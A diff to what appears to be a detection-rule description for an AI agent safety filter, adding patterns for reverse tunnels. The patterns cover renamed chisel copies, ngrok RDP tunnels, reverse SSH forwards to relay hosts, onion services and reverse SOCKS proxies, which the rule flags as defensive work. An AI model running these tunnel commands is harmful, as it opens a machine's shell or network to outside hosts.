@@ -7,7 +7,7 @@ What it catches
     -N -R 0.0.0.0:2222:127.0.0.1:22 relay@203.0.113.9`, `autossh -M 0 -R`, `plink.exe -R
     0.0.0.0:3389:127.0.0.1:3389`, `chisel client HOST R:2222:127.0.0.1:22`, whose reverse
     remotes listen on every address), or that port handed to a public tunnel (`ngrok tcp
-    22`, a quick tunnel with no sign-in in front: `cloudflared tunnel --url ssh://localhost:22`,
+    22`, `ngrok.exe tcp 3389`, a quick tunnel with no sign-in in front: `cloudflared tunnel --url ssh://localhost:22`,
     `rdp://`, `tcp://`; `bore local 22 --to`) or published as an onion service (torrc's
     `HiddenServicePort 2222 127.0.0.1:22`, tor's `--HiddenServicePort 3389`); also on any
     address (the far host's loopback too) of a public host named only by
@@ -15,7 +15,8 @@ What it catches
     2222:localhost:22 tunnel@203.0.113.45`), or signed in to with a key hidden in a temp folder
     (`-i /tmp/.k`): a relay nobody vouches for. A reverse SOCKS proxy,
     which opens the whole network behind the machine to the far
-    host: chisel's reverse `R:socks` remote, SSH's reverse dynamic forward (`ssh -R 1080
+    host: chisel's reverse `R:socks` remote (a copy renamed too, read by that syntax alone:
+    `/dev/shm/.c client https://relay R:socks`), SSH's reverse dynamic forward (`ssh -R 1080
     relay`, also by a copy of ssh renamed, read by ssh's own `-o` options), revsocks. As an
     agent action this is refused outright; in a response it is one piece, weighed with the
     request, unless it is made to start at every boot (a systemd unit, a cron `@reboot`).
